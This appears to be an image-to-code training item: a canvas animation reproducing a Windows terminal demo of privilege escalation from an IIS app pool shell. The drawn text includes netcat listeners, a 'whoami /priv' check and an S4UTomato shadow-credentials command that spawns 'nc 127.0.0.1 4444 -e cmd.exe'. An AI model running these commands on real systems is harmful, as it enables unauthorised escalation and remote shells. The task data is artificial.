
Write an HTML page with a canvas that moves like this. It is 944 px wide and 593 px high and loops after 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Two consoles</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #0080ea; }
  canvas { display: block; width: 944px; height: 593px; }
</style>
</head>
<body>
<canvas id="stage" width="944" height="593"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
ctx.textRendering = 'geometricPrecision';

const LOOP = 8000;
const SCALE = 0.6656;              // desktop pixels to stage pixels
const CELL_W = 8, CELL_H = 16, ROWS = 30, COLS = 120;
const TITLE_H = 30, BAR_W = 17;
const WIN_W = COLS * CELL_W + BAR_W, WIN_H = TITLE_H + ROWS * CELL_H;
const MONO = '13.333px "Noto Sans Mono", "DejaVu Sans Mono", monospace';
const SANS = '11.6px "Open Sans", "Noto Sans", sans-serif';

const PROMPT = 'C:\\inetpub\\wwwroot>';
const EXPLOIT = 'S4UTomato.exe shadowcred -c "nc 127.0.0.1 4444 -e cmd.exe" -f';
const banner = ['Microsoft Windows [Version 10.0.20348.587]', '(c) Microsoft Corporation. All rights reserved.', ''];
const listen = port => [...banner, `C:\\Users\\Tobias>nc -lnvp ${port}`, `listening on [any] ${port} ...`];
const privilege = (name, text, state) => name.padEnd(30) + text.padEnd(42) + state;
const search = [
  '[*] Searching for the target computer account',
  '[*] Target user found: CN=LAB-WEBNODE07,CN=Computers,DC=pentest,DC=com'
];
const updated = '[+] Updated the msDS-KeyCredentialLink attribute of the target object';

const transcript = [
  ...listen(2333),
  'connect to [127.0.0.1] from (UNKNOWN) [127.0.0.1] 61921',
  ...banner,
  PROMPT + 'whoami',
  'whoami',
  'iis apppool\\defaultapppool',
  '',
  PROMPT + 'whoami /priv',
  'whoami /priv',
  '',
  'PRIVILEGES INFORMATION',
  '-'.repeat(22),
  '',
  privilege('Privilege Name', 'Description', 'State'),
  privilege('='.repeat(29), '='.repeat(41), '='.repeat(8)),
  privilege('SeAssignPrimaryTokenPrivilege', 'Replace a process level token', 'Disabled'),
  privilege('SeIncreaseQuotaPrivilege', 'Adjust memory quotas for a process', 'Disabled'),
  privilege('SeAuditPrivilege', 'Generate security audits', 'Disabled'),
  privilege('SeChangeNotifyPrivilege', 'Bypass traverse checking', 'Enabled'),
  privilege('SeImpersonatePrivilege', 'Impersonate a client after authentication', 'Enabled'),
  privilege('SeCreateGlobalPrivilege', 'Create global objects', 'Enabled'),
  privilege('SeIncreaseWorkingSetPrivilege', 'Increase a process working set', 'Disabled'),
  '',
  PROMPT + EXPLOIT,
  EXPLOIT,
  ...search,
  '[*] Listing deviced for LAB-WEBNODE07$:',
  '    DeviceID: eb8ae33f-1927-4dac-b632-f7d8c4eaa1cf | Creation Time: 7/30/2023 2:13:00 AM',
  ...search,
  updated,
  '[*] No pass was provided. The certificate will be stored with the password ZZngmon8dC5CIN9V',
  ...search,
  '[*] Generating certificate',
  '[*] Certificate generaged',
  '[*] Generating KeyCredential',
  '[*] KeyCredential generated with DeviceID 693fd611-2e22-4d2f-99e2-bedba81e96e7',
  '[*] Updating the msDS-KeyCredentialLink attribute of the target object',
  updated
];

// Each step: time, finished rows, unfinished last row, caret shown, rows scrolled away
const typing = (time, rows, text, caret = true) => [time, rows, PROMPT + text, caret, 0];
const steps = [
  typing(0, 9, '', false),
  typing(220, 9, ''),
  typing(770, 9, 'wh'),
  typing(890, 9, 'who'),
  typing(1020, 9, 'whoam'),
  typing(1160, 9, 'whoami'),
  [1290, 11, '', true, 0],
  typing(1380, 13, ''),
  typing(2020, 13, '', false),
  ...Array.from('whoami ', (_, i) => typing(2090 + 70 * i, 13, 'whoami '.slice(0, i + 1))),
  typing(2680, 13, 'whoami /'),
  typing(2890, 13, 'whoami /pr'),
  typing(3020, 13, 'whoami /pri'),
  typing(3290, 13, 'whoami /priv'),
  [3380, 15, '', true, 0],
  [3470, 21, '', true, 0],
  typing(3560, 29, ''),
  typing(4470, 29, '', false),
  [4540, 29, PROMPT, false, 6],
  [4620, 29, PROMPT, false, 12],
  [4880, 29, PROMPT, true, 21],
  [5210, 29, PROMPT, true, 24],
  [5340, 29, PROMPT, true, 27],
  [5500, 29, PROMPT, false, 27],
  [6000, 29, PROMPT, true, 27],
  [6230, 29, PROMPT + EXPLOIT, true, 27],
  [6540, 29, PROMPT + EXPLOIT, false, 27],
  [7070, 29, PROMPT + EXPLOIT, true, 27],
  [7340, 31, '', true, 27],
  [7540, 32, '', true, 27],
  [7750, 35, '', true, 27],
  [7820, 39, '', true, 27],
  [7890, 43, '', true, 27],
  [7960, 47, '', true, 27]
];

// Pointer: time, x, y
const pointerPath = [
  [0, 574.8, 457], [5500, 576, 453], [5590, 579, 438], [5680, 579.6, 418.4],
  [5750, 577, 394], [5830, 571, 367], [5910, 561, 342], [6000, 549, 322],
  [6080, 540, 312], [6160, 536, 309.4], [6540, 535, 309]
];

const current = (list, time) => list.findLast(entry => entry[0] <= time);

function rect(color, x, y, w, h) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function polyline(color, width, ...points) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  points.forEach(([x, y]) => ctx.lineTo(x, y));
  ctx.stroke();
}

function shade(gradient, ...stops) {
  stops.forEach(([at, color]) => gradient.addColorStop(at, color));
  return gradient;
}

function drawWallpaper() {
  rect(shade(ctx.createLinearGradient(0, 60, 944, 0),
    [0, '#0096f4'], [0.4, '#007ee8'], [0.65, '#0068da'], [0.85, '#0050c6'], [1, '#0046b6']), 0, 0, 944, 593);
  rect(shade(ctx.createLinearGradient(0, 40, 0, 260),
    [0, 'rgba(0,100,255,0)'], [1, 'rgba(0,100,255,.7)']), 676, 0, 268, 593);

  // Light beam falling from the right
  ctx.fillStyle = shade(ctx.createLinearGradient(420, 0, 944, 0),
    [0, 'rgba(0,130,245,0)'], [0.45, '#007cf8'], [1, '#0068ee']);
  ctx.beginPath();
  [[420, 110], [944, 270], [944, 593], [420, 593]].forEach(([x, y]) => ctx.lineTo(x, y));
  ctx.fill();
  polyline('rgba(20,140,255,.6)', 1.2, [676, 188], [944, 270]);

  rect(shade(ctx.createRadialGradient(60, 490, 0, 60, 490, 740),
    [0, 'rgba(0,186,255,1)'], [0.35, 'rgba(0,178,255,.8)'], [1, 'rgba(0,150,255,0)']), 0, 0, 944, 593);
  rect('#1c94ff', 917, 267, 265, 265);
}

function drawChevron(y, direction) {
  const x = COLS * CELL_W + BAR_W / 2;
  polyline('#404040', 2, [x - 3.5, y + 2 * direction], [x, y - 2 * direction], [x + 3.5, y + 2 * direction]);
}

function drawWindow(x, y, port, active, rows, caret, scroll) {
  const ink = active ? '#000' : '#8f9b8f';
  ctx.save();
  ctx.translate(x, y);
  ctx.scale(SCALE, SCALE);

  rect('#fff', 0, 0, WIN_W, TITLE_H);
  rect('#0c0c0c', 0, TITLE_H, COLS * CELL_W, ROWS * CELL_H);
  rect('#111', 9, 9, 16, 12);
  ctx.font = SANS;
  ctx.fillStyle = ink;
  ctx.fillText(`C:\\Windows\\system32\\cmd.exe - nc  -lnvp ${port}`, 29.7, 19);

  polyline(ink, 1.2, [858, 15], [868, 15]);
  ctx.strokeRect(903, 10, 10, 10);
  polyline(ink, 1.2, [949, 10], [959, 20]);
  polyline(ink, 1.2, [959, 10], [949, 20]);

  rect('#f0f0f0', COLS * CELL_W, TITLE_H, BAR_W, ROWS * CELL_H);
  rect('#cdcdcd', COLS * CELL_W + 1, scroll >= 12 ? 48 : 47, BAR_W - 2, 17);
  drawChevron(TITLE_H + 8.5, 1);
  drawChevron(WIN_H - 8.5, -1);

  ctx.strokeStyle = active ? 'rgba(50,50,50,.6)' : 'rgba(120,120,120,.4)';
  ctx.lineWidth = 1;
  ctx.strokeRect(0, 0, WIN_W, WIN_H);

  ctx.font = MONO;
  ctx.fillStyle = '#ccc';
  rows.slice(scroll).forEach((text, i) => ctx.fillText(text, 0, TITLE_H + i * CELL_H + 12.7));
  if (caret) {
    const bottom = TITLE_H + (rows.length - scroll) * CELL_H;
    rect('#f2f2f2', rows.at(-1).length * CELL_W, bottom - 4, CELL_W, 4);
  }
  ctx.restore();
}

function drawPointer(x, y) {
  ctx.save();
  ctx.translate(x, y);
  ctx.scale(SCALE, SCALE);
  ctx.beginPath();
  [[0, 0], [0, 17], [4, 13.2], [6.8, 19.4], [9.4, 18.3], [6.8, 12.2], [12.2, 12.2]]
    .forEach(([px, py]) => ctx.lineTo(px, py));
  ctx.closePath();
  ctx.strokeStyle = '#000';
  ctx.lineWidth = 1.4;
  ctx.stroke();
  ctx.fillStyle = '#fff';
  ctx.fill();
  ctx.restore();
}

const start = performance.now();

function draw() {
  const time = (performance.now() - start) % LOOP;
  const [, finished, tail, caret, scroll] = current(steps, time);
  const [, pointerX, pointerY] = current(pointerPath, time);
  drawWallpaper();
  drawWindow(25.8, 34.7, 4444, false, listen(4444), false, 0);
  drawWindow(267, 220, 2333, true, [...transcript.slice(0, finished), tail], caret, scroll);
  drawPointer(pointerX, pointerY);
  requestAnimationFrame(draw);
}
draw();
</script>
</body>
</html>
```
